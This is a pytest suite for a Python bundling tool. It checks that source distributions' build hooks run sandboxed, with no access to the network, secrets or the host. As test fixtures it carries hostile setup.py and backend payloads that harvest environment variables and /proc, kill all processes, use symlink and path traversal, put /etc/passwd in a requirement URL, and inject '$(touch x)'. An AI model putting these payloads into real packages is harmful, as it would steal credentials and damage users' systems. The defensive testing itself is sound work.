"""Code of sdists, at the resolution and at the build: it runs in the sandbox, and reaches nothing."""

from __future__ import annotations

import ast
import hashlib
import json
import os
import time
from pathlib import Path
from typing import Any
from urllib.parse import urlsplit

import pytest
from support.attacks import ATTACKS, LEFT_BEHIND, host_places, runner
from support.cli import BundlerCli, built, manifest_of
from support.localindex import LocalIndex
from support.wheels import make_sdist, make_wheel

from bundler.errors import InputError
from bundler.resolve.sdist import hash_tree
from bundler.system.environ import read_host_environment
from bundler.system.sandbox import Sandbox, find_sandbox

SITE = "lib/python3.7/site-packages"
FULL = Sandbox(network="namespace", processes=True, read_only=True, system_calls=True)


@pytest.fixture(autouse=True)
def full_sandbox(tmp_path: Path, python37: Path) -> None:
    if find_sandbox(read_host_environment(), tmp_path) != FULL:
        pytest.skip("no full sandbox is permitted here")


def evil_setup(code: str) -> str:
    """Return a setup.py that runs ``code``, in whose names `answers` becomes a module of the wheel."""
    return (
        f"answers = {{}}\n{code}\n"
        "open('made.py', 'w').write('ANSWERS = %r' % (answers,))\n"
        "from setuptools import setup\nsetup(name='evil', version='1.0', py_modules=['made'])\n"
    )


def answers_of(result: dict[str, Any], version: str = "3.7") -> dict[str, Any]:
    text = (Path(result["path"]) / f"lib/python{version}/site-packages/made.py").read_text()
    answers: dict[str, Any] = ast.literal_eval(text.removeprefix("ANSWERS = "))
    return answers


@pytest.mark.attack("sdists", count=len(ATTACKS))
def test_every_attack_of_a_setup_py_is_refused(
    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path
) -> None:
    with host_places(tmp_path, tmp_path) as places:
        code = runner(places, "answers.__setitem__")
        make_sdist(index.folder, "evil", "1.0", {}, setup_py=evil_setup(code))
        result = built(bundler_cli, "evil", "--name", "app", "--format", "dir", cwd=tmp_path)
    answers = answers_of(result)
    # A build writes to the disk: its total is counted instead.
    failed = {name: text for name, text in answers.items() if text and name != "scratch_is_bounded"}

    assert failed == {}
    assert answers.keys() == ATTACKS.keys()
    assert [path for path in LEFT_BEHIND if path.exists()] == []


@pytest.mark.attack("sdists")
def test_hooks_see_no_secret_no_store_and_no_network(
    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path
) -> None:
    """At the resolution, too: the hook writes what it sees into the metadata."""
    code = (
        "import os, socket, sys\n"
        "seen = [sorted(os.environ.items()), sys.argv]\n"
        "seen += [open('/proc/%s/cmdline' % n).read() for n in os.listdir('/proc') if n.isdigit()]\n"
        "answers['seen'] = repr(seen).encode().hex()\n"  # a wheel must not contain the path of its build
        f"answers['store'] = [os.path.exists({str(bundler_cli.store / 'pip')!r}), os.path.exists({str(bundler_cli.home)!r} + '/x')]\n"
        f"try: socket.create_connection(('127.0.0.1', {urlsplit(index.url).port}), 5)\n"
        "except OSError as error: answers['network'] = str(error)\n"
    )
    setup = evil_setup(code).replace("version='1.0'", "version='1.0', description=answers['network']")
    make_sdist(index.folder, "evil", "1.0", {}, setup_py=setup)
    index.require("me", "hunter2-secret")
    env = {
        "PIP_INDEX_URL": index.url_with_credentials,
        "HTTPS_PROXY": "http://p:proxy-secret@proxy.example:1",
        "NO_PROXY": "127.0.0.1,localhost",
        "TOKEN": "token-secret",
    }
    (bundler_cli.home / "x").write_text("")
    result = built(bundler_cli, "evil", "--name", "app", "--format", "dir", cwd=tmp_path, env=env)
    answers = answers_of(result)
    seen = bytes.fromhex(answers["seen"]).decode()

    assert "SOURCE_DATE_EPOCH" in seen
    assert "secret" not in seen, seen
    assert answers["store"] == [False, False]
    assert answers["network"] == "[Errno 101] Network is unreachable"
    metadata = (Path(result["path"]) / SITE / "evil-1.0.dist-info" / "METADATA").read_text()
    assert "Network is unreachable" in metadata


@pytest.mark.attack("sdists")
@pytest.mark.parametrize("stage", ["resolution", "build"])
def test_code_of_a_source_changes_nothing_of_the_host(
    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path, stage: str
) -> None:
    """The user's directory is a source, too: its hooks run where it is."""
    mark = f"left-by-setup-{os.getpid()}"
    code = (
        "import os, subprocess\n"
        f"for place in ('..', os.path.expanduser('~'), {str(tmp_path)!r}, {str(bundler_cli.store)!r}, {str(bundler_cli.home)!r}, '/tmp', '/etc'):\n"
        f"    try: open(os.path.join(place, {mark!r}), 'w').close()\n"
        "    except OSError: pass\n"
        "if os.fork() == 0:\n"
        "    os.setsid()\n"
        "    if os.fork() == 0:\n"
        f"        os.execv('/bin/sh', ['/bin/sh', '-c', 'sleep 99; : {mark}'])\n"
        "    os._exit(0)\n"
    )
    project = tmp_path / "project"
    project.mkdir()
    (project / "setup.py").write_text(
        code + "from setuptools import setup\nsetup(name='mine', version='1', py_modules=['mine'])\n"
    )
    (project / "mine.py").write_text("")
    before = sorted(path.name for path in project.iterdir())
    if stage == "resolution":
        assert bundler_cli.run("lock", "./project", "-o", "out.toml", cwd=tmp_path).returncode == 0
    else:
        built(bundler_cli, "./project", "--name", "app", cwd=tmp_path)

    places = [tmp_path, project, bundler_cli.store, bundler_cli.home, Path("/tmp"), Path("/etc")]
    assert [place for place in places if (place / mark).exists()] == []
    assert sorted(path.name for path in project.iterdir()) == before
    for path in Path("/proc").glob("[0-9]*/cmdline"):
        try:
            assert mark not in path.read_text("utf-8", "replace")
        except OSError:
            continue


@pytest.mark.attack("sdists")
@pytest.mark.parametrize("repository", ["none", "around the project", "around both"])
def test_a_link_out_of_a_project_is_not_packed(tmp_path: Path, repository: str) -> None:
    """A private file would become part of the wheel; a file of the same repository is a license, or the like."""
    project = tmp_path / "clone/python"
    project.mkdir(parents=True)
    (tmp_path / "secret").write_text("secret")
    (project / "data.txt").symlink_to(tmp_path / "secret")
    (project / "inner.txt").symlink_to("data.py")
    (project / "data.py").write_text("")
    if repository != "none":
        (tmp_path / ("clone" if repository == "around the project" else "") / ".git").mkdir()
    if repository == "around both":
        hash_tree(project)
    else:
        with pytest.raises(InputError) as caught:
            hash_tree(project)
        assert caught.value.message == "`data.txt` of the project `python` is a link out of it"


@pytest.mark.attack("sdists")
def test_a_setup_py_that_kills_ends_itself_alone(
    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path
) -> None:
    make_sdist(
        index.folder,
        "kills",
        "1.0",
        {},
        setup_py="import os\nos.kill(os.getppid(), 9)\nos.kill(-1, 9)\nos._exit(1)\n",
    )
    started = time.monotonic()
    ended = bundler_cli.run("build", "kills", cwd=tmp_path)

    assert ended.returncode == 4, ended.stderr
    assert "Traceback" not in ended.stderr
    assert time.monotonic() - started < 300


def test_what_is_built_here_is_noted_with_the_way_to_refuse_it(
    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path
) -> None:
    """And a wheel is preferred to an sdist of the same version, which then runs no code."""
    make_sdist(index.folder, "source", "1.0", {"source.py": ""})
    make_sdist(index.folder, "both", "1.0", {"both.py": ""}, setup_py="raise SystemExit('built')\n")
    make_wheel(index.folder, "both", "1.0")
    ended = bundler_cli.run("build", "source", "both", "--json", cwd=tmp_path)

    assert ended.returncode == 0, ended.stderr
    assert json.loads(ended.stdout)["result"]["built_here"] == ["source"]
    assert "built here, by their own code: `source-1.0.tar.gz`; `--only-binary` refuses this" in ended.stderr


@pytest.mark.attack("sdists")
@pytest.mark.parametrize(
    ("hook", "body", "fault"),
    [
        pytest.param(
            "build_wheel", "return '../' * 20 + {secret!r}", "a path outside of its directory", id="wheel"
        ),
        pytest.param(
            "build_wheel",
            "import os; os.symlink({secret!r}, os.path.join(wheel_directory, 'evil-1.0-py3-none-any.whl')); "
            "return 'evil-1.0-py3-none-any.whl'",
            "a symbolic link",
            id="wheel-link",
        ),
        pytest.param(
            "prepare_metadata_for_build_wheel",
            "import os; path = os.path.join(metadata_directory, 'evil-1.0.dist-info'); os.mkdir(path); "
            "os.symlink({secret!r}, os.path.join(path, 'METADATA')); return 'evil-1.0.dist-info'",
            "a symbolic link",
            id="metadata-link",
        ),
        pytest.param(
            "get_requires_for_build_wheel",
            "return ['x @ http://127.0.0.1:9/' + open('/etc/passwd').read()[:4]]",
            "a requirement that is not a name",
            id="requirement-url",
        ),
    ],
)
def test_the_answer_of_a_hook_does_not_lead_pip_out_of_the_sandbox(
    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path, hook: str, body: str, fault: str
) -> None:
    """pip runs outside, and moves, reads or fetches what a hook names."""
    secret = tmp_path / "secret"
    secret.write_text("Metadata-Version: 2.1\nName: evil\nVersion: 1.0\nSummary: secret\n")
    arguments = "metadata_directory" if hook.startswith("prepare") else "wheel_directory"
    arguments = (
        "" if hook.startswith("get") else f"{arguments}, config_settings=None, metadata_directory=None"
    )
    arguments = arguments.replace(
        "metadata_directory, config_settings=None, metadata_directory=None",
        "metadata_directory, config_settings=None",
    )
    backend = f"from setuptools.build_meta import *\ndef {hook}({arguments or 'config_settings=None'}):\n    {body.format(secret=str(secret))}\n"
    project = '[build-system]\nrequires = ["setuptools", "wheel"]\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    setup = "from setuptools import setup\nsetup(name='evil', version='1.0', py_modules=['evil'])\n"
    files = {"pyproject.toml": project, "backend.py": backend, "evil.py": ""}
    make_sdist(index.folder, "evil", "1.0", files, setup_py=setup)
    ended = bundler_cli.run("build", "evil", cwd=tmp_path)

    assert ended.returncode == 4, ended.stderr
    assert f"a build backend returned {fault}" in ended.stderr
    assert secret.read_text().endswith("Summary: secret\n")


def backend(body: str) -> str:
    """Return a setup.py whose metadata is that of ``body``."""
    return f"from setuptools import setup\nsetup(name='evil', version='1.0', py_modules=['evil'], {body})\n"


@pytest.mark.attack("sdists")
@pytest.mark.parametrize("of", ["sdist", "wheel", "wheel of a build", "build requirement"])
def test_a_dependency_by_url_is_refused(
    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path, of: str
) -> None:
    """pip would fetch it: metadata that a hook writes could send anything that the hook can read."""
    helper = '[build-system]\nrequires = ["setuptools", "wheel", "helper"]\nbuild-backend = "setuptools.build_meta:__legacy__"\n'
    wheel = make_wheel(index.folder, "other", "1.0")
    url = f"{index.url.replace('/simple/', '/files/')}{wheel.name}?secret"
    evil = backend(f"install_requires=['other @ {url}']")
    if of == "wheel":
        make_wheel(index.folder, "evil", "1.0", requires=[f"other @ {url}"])
    elif of == "sdist":
        make_sdist(index.folder, "evil", "1.0", {"evil.py": ""}, setup_py=evil)
    else:
        if of == "wheel of a build":
            make_wheel(index.folder, "helper", "1.0", requires=[f"other @ {url}"])
        else:
            make_sdist(
                index.folder, "helper", "1.0", {"evil.py": ""}, setup_py=evil.replace("'evil'", "'helper'", 1)
            )
        make_sdist(
            index.folder, "evil", "1.0", {"pyproject.toml": helper, "evil.py": ""}, setup_py=backend("")
        )
    ended = bundler_cli.run("build", "evil", cwd=tmp_path)

    assert ended.returncode == 4, ended.stderr
    assert f"other @ {url.partition('?')[0]}" in ended.stderr
    assert [request.path for request in index.requests if "secret" in request.path] == []


@pytest.mark.parametrize(
    ("kind", "with_digest"), [("sdist", True), ("sdist", False), ("wheel", True), ("wheel", False)]
)
def test_a_dependency_by_a_url_that_the_user_requires_is_allowed(
    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path, kind: str, with_digest: bool
) -> None:
    wheel = make_wheel(index.folder, "other", "1.0")
    url = f"other @ {index.url.replace('/simple/', '/files/')}{wheel.name}"
    direct = f"{url}#sha256={hashlib.sha256(wheel.read_bytes()).hexdigest()}"
    if kind == "sdist":
        setup = backend(f"install_requires=['{direct if with_digest else url}']")
        make_sdist(index.folder, "evil", "1.0", {"evil.py": ""}, setup_py=setup)
    else:
        make_wheel(index.folder, "evil", "1.0", requires=[direct if with_digest else url])
    refused = bundler_cli.run("lock", "evil", cwd=tmp_path)
    assert refused.stderr.count(direct if with_digest else f"`{url}#sha256=`") >= 1, refused.stderr

    ended = bundler_cli.run("lock", "evil", direct, cwd=tmp_path)

    assert ended.returncode == 0, ended.stderr


@pytest.mark.attack("sdists")
def test_programs_that_pip_starts_get_no_password(
    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path
) -> None:
    """pip runs `lsb_release` to describe the system to the index."""
    index.require("someone", "hunter2-of-lsb")
    make_wheel(index.folder, "demo", "1.0")
    programs, seen = tmp_path / "bin", tmp_path / "seen"
    programs.mkdir()
    (programs / "lsb_release").write_text(f"#!/bin/sh\nenv >> {seen}; echo end >> {seen}\n")
    (programs / "lsb_release").chmod(0o755)
    env = {
        "PATH": f"{programs}:{bundler_cli.env['PATH']}",
        "PIP_INDEX_URL": index.url_with_credentials,
        "https_proxy": "http://proxy:secret-of-proxy@127.0.0.1:9",
    }
    ended = bundler_cli.run("lock", "demo", cwd=tmp_path, env=env)

    assert ended.returncode == 0, ended.stderr
    texts = seen.read_text().split("end\n")[:-1]
    assert len(texts) >= 2, "no pip started it"
    for text in texts:
        assert "hunter2-of-lsb" not in text
        assert "secret-of-proxy" not in text


@pytest.mark.attack("sdists")
@pytest.mark.parametrize("version", ["3.7", "3.12"])
def test_build_requirements_of_build_requirements_run_in_the_sandbox(
    index: LocalIndex, bundler_cli: BundlerCli, pythons: dict[str, Path], tmp_path: Path, version: str
) -> None:
    """A build requirement that is an sdist is built by another pip, whose hooks are in the sandbox, too."""
    outside = tmp_path / "outside"
    code = f"try: open({str(outside)!r}, 'w').close()\nexcept OSError: pass\n"
    helper = (
        code + "from setuptools import setup\nsetup(name='helper', version='1.0', py_modules=['helper'])\n"
    )
    make_sdist(index.folder, "helper", "1.0", {"helper.py": "X = 7\n"}, setup_py=helper)
    setup = (
        "import helper\nfrom setuptools import setup\n"
        "open('made.py', 'w').write('ANSWERS = %r' % {'helper': helper.X})\nsetup(name='evil', version='1.0', py_modules=['made'])\n"
    )
    project = '[build-system]\nrequires = ["setuptools", "wheel", "helper"]\nbuild-backend = "setuptools.build_meta:__legacy__"\n'
    make_sdist(index.folder, "evil", "1.0", {"pyproject.toml": project}, setup_py=setup)
    if version not in pythons:
        pytest.skip(f"no CPython {version} here")
    result = built(bundler_cli, "evil", "--python", version, "--name", "app", "--format", "dir", cwd=tmp_path)

    assert answers_of(result, version) == {"helper": 7}
    assert not outside.exists()
    (made,) = manifest_of(result)["distributions"]
    assert any(line.startswith("helper==1.0 --hash=sha256:") for line in made["built_here"]["requires"])


@pytest.mark.attack("sdists")
@pytest.mark.parametrize("requires", ["helper @ {}", "helper@{}", "{}", "./helper", "/tmp/helper"])
def test_a_requirement_of_a_build_by_url_is_refused(
    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path, requires: str
) -> None:
    """pip would fetch it from any host, and nothing would have its digest."""
    wheel = make_wheel(index.folder, "helper", "1.0")
    url = f"{index.url.replace('/simple/', '/files/')}{wheel.name}?secret"
    project = f'[build-system]\nrequires = ["setuptools", "wheel", "{requires.format(url)}"]\n'
    make_sdist(index.folder, "evil", "1.0", {"pyproject.toml": project, "evil.py": ""}, setup_py=backend(""))
    ended = bundler_cli.run("build", "evil", cwd=tmp_path)

    assert ended.returncode == 4, ended.stderr
    assert ("requires a URL for its build" in ended.stderr) == ("@" in requires), ended.stderr
    assert [request.path for request in index.requests if "secret" in request.path] == []


@pytest.mark.attack("sdists")
@pytest.mark.parametrize("how", ["page", "file"])
def test_a_requirement_of_a_build_that_changes_under_way_is_refused(
    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path, how: str
) -> None:
    """The build installs the bytes that its resolution found, or none."""
    wheel = make_wheel(index.folder, "helper", "1.0")
    good = wheel.read_bytes()
    evil = make_wheel(tmp_path, "helper", "1.0", {"helper.py": "raise SystemExit('evil')\n"}).read_bytes()
    project = '[build-system]\nrequires = ["setuptools", "wheel", "helper"]\nbuild-backend = "setuptools.build_meta"\n'
    make_sdist(index.folder, "source", "1.0", {"pyproject.toml": project, "source.py": ""})
    assert bundler_cli.run("lock", "source", cwd=tmp_path).returncode == 0
    index.swap = (wheel, "/simple/helper/" if how == "page" else f"/files/{wheel.name}", [good, evil])
    ended = bundler_cli.run("build", "--lock", "pylock.toml", cwd=tmp_path)

    assert ended.returncode == 5, ended.stderr
    assert hashlib.sha256(evil).hexdigest() in ended.stderr


def test_the_requirements_of_a_build_are_recorded_with_their_digests(
    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path
) -> None:
    """Also those that a hook names, and those of a build requirement that is built itself."""
    wheels = {name: make_wheel(index.folder, name, "1.0") for name in ("static", "dynamic")}
    make_sdist(index.folder, "built", "1.0", {"built.py": ""})
    project = '[build-system]\nrequires = ["setuptools", "wheel", "static", "built"]\nbuild-backend = "backend"\nbackend-path = ["."]\n'
    hook = "from setuptools.build_meta import *\ndef get_requires_for_build_wheel(config_settings=None):\n    return ['dynamic']\n"
    make_sdist(
        index.folder, "source", "1.0", {"pyproject.toml": project, "backend.py": hook, "source.py": ""}
    )
    (made,) = manifest_of(built(bundler_cli, "source", "--name", "app", cwd=tmp_path))["distributions"]
    requires = made["built_here"]["requires"]

    for name, wheel in wheels.items():
        assert f"{name}==1.0 --hash=sha256:{hashlib.sha256(wheel.read_bytes()).hexdigest()}" in requires
    sdist = hashlib.sha256((index.folder / "built-1.0.tar.gz").read_bytes()).hexdigest()
    assert f"built==1.0 --hash=sha256:{sdist}" in requires
    assert [line.partition("==")[0] for line in requires] == [
        "built",
        "dynamic",
        "setuptools",
        "static",
        "wheel",
    ]


@pytest.mark.attack("sdists")
@pytest.mark.parametrize(
    "line",
    [
        "ERROR: refused response: http://victim/$(touch x): evil",
        "ERROR: refused-0123456789abcdef response: http://victim/: evil",
        "ERROR: refused dependency: `touch x` @ http://victim/ of evil",
    ],
)
def test_the_output_of_a_hook_is_no_error_of_bundler(
    index: LocalIndex, bundler_cli: BundlerCli, tmp_path: Path, line: str
) -> None:
    """It would name the cause, and a command to paste."""
    setup = f"import sys\nprint({line!r})\nprint({line!r}, file=sys.stderr)\nsys.exit(3)\n"
    make_sdist(index.folder, "evil", "1.0", {}, setup_py=setup)
    ended = bundler_cli.run("lock", "evil", cwd=tmp_path)

    assert (ended.returncode, "cannot be built" in ended.stderr) == (4, True), ended.stderr
    hints = [text for text in ended.stderr.splitlines() if text.startswith("bundler: hint:")]
    assert "victim" not in hints[0]


def test_a_virtual_environment_in_a_project_is_no_source(tmp_path: Path) -> None:
    (tmp_path / "x.py").touch()
    before = hash_tree(tmp_path)
    for name in ("venv", "sub/env"):
        (tmp_path / name / "bin").mkdir(parents=True)
        (tmp_path / name / "pyvenv.cfg").write_text("home = /usr/bin\n")
        (tmp_path / name / "bin/python").symlink_to("/usr/bin/env")
    assert hash_tree(tmp_path) == before
    (tmp_path / "venv/pyvenv.cfg").unlink()
    with pytest.raises(InputError, match="`venv/bin/python` of the project"):
        hash_tree(tmp_path)
